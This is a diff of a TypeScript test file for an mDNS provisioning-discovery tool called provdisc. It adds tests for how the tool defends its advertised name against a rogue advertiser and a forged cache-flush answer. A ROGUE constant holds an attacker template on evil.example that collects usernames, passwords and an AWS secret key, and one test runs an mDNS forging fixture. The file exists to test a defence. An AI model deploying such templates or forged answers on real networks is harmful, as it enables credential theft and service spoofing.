@@ -1,6 +1,7 @@
 /**
- * Name conflicts on the wire (issue 3 §2 probing, §3): two provdisc probing at once, a name already
- * held by python-zeroconf or Avahi, a rogue claiming the name of a live advertiser, and two
+ * Name conflicts on the wire (issue 3 §2 probing, §3; issue 7 §1 after announcing): two provdisc
+ * probing at once, a name already held by python-zeroconf or Avahi, a rogue claiming the name of a
+ * live advertiser (defended, or stopped with --exit-on-conflict), one forged answer, and two
  * advertisers that disagree. Host c only watches (tshark) and discovers; a and b advertise.
  * provdisc never renames: for Jitsi a renamed instance is a missing one.
  */
@@ -8,18 +9,19 @@ import path from 'node:path';
 import { beforeAll, describe, expect, test } from 'vitest';
 import { TYPE, type CapturedPacket } from '../lab/capture.js';
 import { REPO_ROOT, type LabHost } from '../lab/host.js';
-import { SYSTEM_PYTHON, zeroconfRegister } from '../lab/peers.js';
+import { SYSTEM_PYTHON, zeroconfRegister, zeroconfResolve } from '../lab/peers.js';
 import type { SpawnedProcess } from '../lab/process.js';
 import { requirePeers } from '../lab/requirements.js';
 import { StartGate } from '../lab/start-gate.js';
 import { useLab } from '../lab/vitest.js';
-import { announcements, INSTANCE, instanceNamesSent, queriesFrom, responsesFrom, templateTxt } from './fixtures/wire.js';
+import { announcements, INSTANCE, instanceNamesSent, isMulticast, queriesFrom, responsesFrom, sleep, templateTxt } from './fixtures/wire.js';
 
 const need = requirePeers(['tshark', 'zeroconf', 'avahi']);
 // same length, so the TXT records (compared first, RFC 6762 §8.2) differ only at prov-a / prov-b
 const TEMPLATE_A = 'https://prov-a.example/p.php?username=${username}&osname=${osname}';
 const TEMPLATE_B = 'https://prov-b.example/p.php?username=${username}&osname=${osname}';
 const WAIT_FOR_PROBE = path.join(REPO_ROOT, 'test/interop/fixtures/mdns_wait_probe.py');
+const FORGE = path.join(REPO_ROOT, 'test/interop/fixtures/mdns_forge.py');
 const ROGUE = 'https://evil.example/grab.php?username=${username}&password=${password}&secret=${env.AWS_SECRET_ACCESS_KEY}';
 
 type Outcome = { announced: true } | { announced: false; code: number | null };
@@ -62,6 +64,16 @@ async function expectRefused(host: LabHost, holder: LabHost, heldTemplate: strin
   expect(responsesFrom(packets, host.ipv4)).toEqual([]);
   expect([...instanceNamesSent(packets, host.ipv4)]).toEqual([INSTANCE]);
   return packets;
+}
+
+/** `discover --all` from `watcher` lists exactly `expected` ([from, type, template]) and warns, naming both templates. */
+async function expectBothListed(watcher: LabHost, expected: [string, string, string][]): Promise<void> {
+  const run = await watcher.provdisc(['discover', '--all', '--json', '--timeout', '2000']);
+  expect(run.code, run.stderr).toBe(0);
+  const found = (JSON.parse(run.stdout) as { template: string; from: string; type: string }[]).map((s) => [s.from, s.type, s.template]);
+  expect(found.sort()).toEqual(expected.sort());
+  expect(run.stderr).toMatch(/2 advertisers disagree/);
+  for (const [, , template] of expected) expect(run.stderr).toContain(template);
 }
 
 describe(`name conflicts on one bridged link${need.note}`, { skip: need.skip }, () => {
@@ -127,8 +139,8 @@ describe(`name conflicts on one bridged link${need.note}`, { skip: need.skip }, 
     }
   });
 
-  test('a rogue claiming the name of a live advertiser (no probing): provdisc stops and exits 1 naming it', async () => {
-    const adv = a.spawnProvdisc(['advertise', '--json', TEMPLATE_A]);
+  test('--exit-on-conflict: a rogue claiming the name of a live advertiser (no probing) stops it, exit 1 naming it', async () => {
+    const adv = a.spawnProvdisc(['advertise', '--json', '--exit-on-conflict', TEMPLATE_A]);
     await adv.waitForLine(/"event":"announced"/, 15_000);
     const rogue = await zeroconfRegister(b, { txt: templateTxt(ROGUE), server: `${b.name}.local.`, rogue: true });
     try {
@@ -146,6 +158,82 @@ describe(`name conflicts on one bridged link${need.note}`, { skip: need.skip }, 
     }
   });
 
+  test('a rogue claiming the name of a live advertiser: reported with its address and template, defended, provdisc keeps running; discover --all lists both and warns', async () => {
+    const adv = a.spawnProvdisc(['advertise', '--json', TEMPLATE_A]);
+    await adv.waitForLine(/"event":"announced"/, 15_000);
+    const rogue = await zeroconfRegister(b, { txt: templateTxt(ROGUE), server: `${b.name}.local.`, rogue: true });
+    try {
+      const line = await adv.waitForLine(/"event":"conflict"/, 10_000);
+      const conflict = JSON.parse(line) as { from: string; advertises: string; action: string; message: string };
+      expect(conflict).toMatchObject({ from: b.ipv4, advertises: ROGUE, action: 'defended' });
+      expect(adv.lines.stderr.join('\n')).toContain(`provdisc: conflict: ${b.ipv4} (on eth0) answers for "${INSTANCE}" with ${ROGUE}`);
+      // the rogue keeps answering: both stay visible from a third host, with a warning
+      await expectBothListed(c, [
+        [a.ipv4, '_https._tcp', TEMPLATE_A],
+        [b.ipv4, '_https._tcp', ROGUE],
+      ]);
+      expect(adv.running, adv.tail()).toBe(true);
+      // at most one conflict report per 30 s for that host, however often it answered
+      expect(adv.lines.stdout.filter((l) => l.includes('"event":"conflict"') && l.includes(`"from":"${b.ipv4}"`))).toHaveLength(1);
+    } finally {
+      await adv.stop();
+      await rogue.stop();
+    }
+  });
+
+  test('a rogue holding the name when an interface changes: provdisc announces again without giving the name up, and keeps running', async () => {
+    const adv = a.spawnProvdisc(['advertise', '--json', TEMPLATE_A]);
+    await adv.waitForLine(/"event":"announced"/, 15_000);
+    const rogue = await zeroconfRegister(b, { txt: templateTxt(ROGUE), server: `${b.name}.local.`, rogue: true });
+    const extra = a.ipv4.replace(/\.\d+$/, '.77');
+    try {
+      await adv.waitForLine(/"event":"conflict"/, 10_000);
+      // new sockets and a new probe: the rogue answers it
+      expect((await a.run('ip', ['addr', 'add', `${extra}/24`, 'dev', 'eth0'])).code).toBe(0);
+      await adv.waitForLine(new RegExp(`"event":"interfaces-changed".*${extra.replace(/\./g, '\\.')}`), 15_000);
+      expect(adv.running, adv.tail()).toBe(true);
+      expect(adv.lines.stdout.some((l) => l.includes('"action":"stopped"')), adv.tail()).toBe(false);
+      await expectBothListed(c, [
+        [a.ipv4, '_https._tcp', TEMPLATE_A],
+        [b.ipv4, '_https._tcp', ROGUE],
+      ]);
+    } finally {
+      await adv.stop();
+      await rogue.stop();
+      await a.run('ip', ['addr', 'del', `${extra}/24`, 'dev', 'eth0']);
+    }
+  });
+
+  test('one forged cache-flush answer: reported, provdisc re-asserts its records at once and keeps running; a client asking 5 s later gets its template', async () => {
+    const adv = a.spawnProvdisc(['advertise', '--json', TEMPLATE_A]);
+    await adv.waitForLine(/"event":"announced"/, 15_000);
+    await sleep(3_200); // announcements over, and the one-second hold-off after the last
+    const capture = await c.capture('eth0');
+    const forged = await b.run(SYSTEM_PYTHON, [FORGE, b.ipv4, INSTANCE, `${b.name}.local`, '443', ...templateTxt(ROGUE)]);
+    expect(forged.stdout, forged.stderr).toBe('sent\n');
+    const line = await adv.waitForLine(/"event":"conflict"/, 5_000);
+    expect(JSON.parse(line)).toMatchObject({ from: b.ipv4, interface: 'eth0', advertises: ROGUE, action: 'defended', count: 1, total: 1 });
+    await sleep(5_000);
+    const [lookup] = await zeroconfResolve(c);
+    const packets = await capture.stop();
+    try {
+      expect(lookup, JSON.stringify(lookup)).toMatchObject({ found: true, txt: templateTxt(TEMPLATE_A), addresses: [a.ipv4] });
+      expect(adv.running, adv.tail()).toBe(true);
+      // on the wire: the forged answer, then provdisc's own SRV and TXT with the cache-flush bit,
+      // multicast at once (no multicast of them in the last second to hold it back)
+      const forgery = responsesFrom(packets, b.ipv4).find((p) => p.answers.some((r) => r.name === INSTANCE && r.cacheFlush))!;
+      expect(forgery).toBeDefined();
+      const reassertion = responsesFrom(packets, a.ipv4).find((p) => isMulticast(p) && p.time >= forgery.time)!;
+      expect(reassertion, JSON.stringify(packets)).toBeDefined();
+      expect((reassertion.time - forgery.time) * 1000).toBeLessThan(100);
+      const txt = reassertion.answers.find((r) => r.name === INSTANCE && r.type === TYPE.TXT);
+      expect(txt).toMatchObject({ cacheFlush: true, data: templateTxt(TEMPLATE_A) });
+      expect(reassertion.answers.some((r) => r.name === INSTANCE && r.type === TYPE.SRV && r.cacheFlush)).toBe(true);
+    } finally {
+      await adv.stop();
+    }
+  });
+
   test('discover --all lists two advertisers that disagree (provdisc, and a rogue python-zeroconf) and warns', async () => {
     const adv = a.spawnProvdisc(['advertise', '--json', TEMPLATE_A]);
     await adv.waitForLine(/"event":"announced"/, 15_000);
@@ -159,18 +247,10 @@ describe(`name conflicts on one bridged link${need.note}`, { skip: need.skip }, 
       rogue: true,
     });
     try {
-      const run = await c.provdisc(['discover', '--all', '--json', '--timeout', '2000']);
-      expect(run.code, run.stderr).toBe(0);
-      const found = (JSON.parse(run.stdout) as { template: string; from: string; type: string }[]).map((s) => [s.from, s.type, s.template]);
-      expect(found.sort()).toEqual(
-        [
-          [a.ipv4, '_https._tcp', TEMPLATE_A],
-          [b.ipv4, '_http._tcp', rogueTemplate],
-        ].sort(),
-      );
-      expect(run.stderr).toMatch(/2 advertisers disagree/);
-      expect(run.stderr).toContain(TEMPLATE_A);
-      expect(run.stderr).toContain(rogueTemplate);
+      await expectBothListed(c, [
+        [a.ipv4, '_https._tcp', TEMPLATE_A],
+        [b.ipv4, '_http._tcp', rogueTemplate],
+      ]);
       expect(adv.running).toBe(true);
     } finally {
       await adv.stop();
